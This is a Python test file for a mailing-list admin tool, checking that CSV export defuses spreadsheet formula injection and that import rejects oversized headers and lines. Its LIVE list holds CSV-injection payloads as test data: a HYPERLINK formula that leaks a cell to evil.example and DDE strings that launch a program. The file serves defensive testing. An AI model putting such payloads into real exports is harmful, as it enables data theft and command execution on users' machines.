"""CSV files are hostile both ways: an export never hands a spreadsheet a live formula (OWASP CSV
injection), and an import is bounded in columns and line length, refusing what is too big in one line."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from digest.admin.csv_cells import guard, unguard
from tests.support.cli import fails, ok, run

# What a spreadsheet would run: formulas, DDE-style commands, arithmetic, and the tab and CR that some
# programs skip before looking for a formula.
LIVE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]
# Values that already start with the quote must come back exactly as well.
QUOTED = ["'=already quoted", "'plain quote", "''=two quotes"]


@pytest.mark.parametrize("value", [*LIVE, *QUOTED, "", "plain", "a=b", "'"])
def test_guarding_a_cell_is_undone_exactly_by_unguarding_it(value: str) -> None:
    assert unguard(guard(value)) == value
    assert guard(value)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_export_writes_no_live_formula_and_the_file_imports_back_unchanged(
    morning: str, tmp_path: Path
) -> None:
    ok("lists", "create", "copy", "--name", "Copy", "--from", "c@example.com")
    cells = [*LIVE, *QUOTED]
    for n, value in enumerate(cells):
        ok("subscribers", "add", morning, f"p{n}@example.com", "--name", value, "--attr", f"note={value}")
    ok("subscribers", "add", morning, "=1+1@example.com", "--attr", "@SUM(A1)=x")
    exported = run("subscribers", "export", morning, code=0).stdout
    for row in csv.reader(io.StringIO(exported)):
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    path = tmp_path / "out.csv"
    path.write_text(exported, encoding="utf-8")
    ok("subscribers", "import", "copy", str(path))
    people = {s["email"]: (s["name"], s["attrs"]) for s in ok("subscribers", "list", "copy")}
    assert people == {s["email"]: (s["name"], s["attrs"]) for s in ok("subscribers", "list", morning)}
    assert people["p0@example.com"] == (LIVE[0], {"note": LIVE[0]})
    assert people["=1+1@example.com"][1] == {"@SUM(A1)": "x"}
    assert run("subscribers", "export", "copy", code=0).stdout == exported


def _csv(tmp_path: Path, text: str) -> str:
    path = tmp_path / "people.csv"
    path.write_text(text, encoding="utf-8")
    return str(path)


def test_a_header_of_too_many_columns_is_refused_in_one_line(morning: str, tmp_path: Path) -> None:
    header = "email," + ",".join(f"c{n}" for n in range(20_000))
    line = fails("subscribers", "import", morning, _csv(tmp_path, f"{header}\na@example.com\n"))
    assert "20001 columns" in line and "at most" in line


def test_a_header_line_too_long_to_read_is_refused_in_one_line(morning: str, tmp_path: Path) -> None:
    line = fails("subscribers", "import", morning, _csv(tmp_path, "email," + "x" * 300_000 + "\n"))
    assert "first row" in line and "longer than" in line


def test_an_over_long_line_is_skipped_and_reported_and_the_rows_around_it_go_in(
    morning: str, tmp_path: Path
) -> None:
    text = "email,name\nbefore@example.com,B\nlong@example.com," + "x" * 2_000_000 + "\nafter@example.com,A\n"
    report = ok("subscribers", "import", morning, _csv(tmp_path, text))
    assert (report["added"], report["rejected_total"]) == (2, 1)
    (reject,) = report["rejects"]
    assert reject["row"] == 3 and "longer than" in reject["reason"]
    assert len(reject["raw"]) < 1000  # the report holds a glimpse of the line, not the line
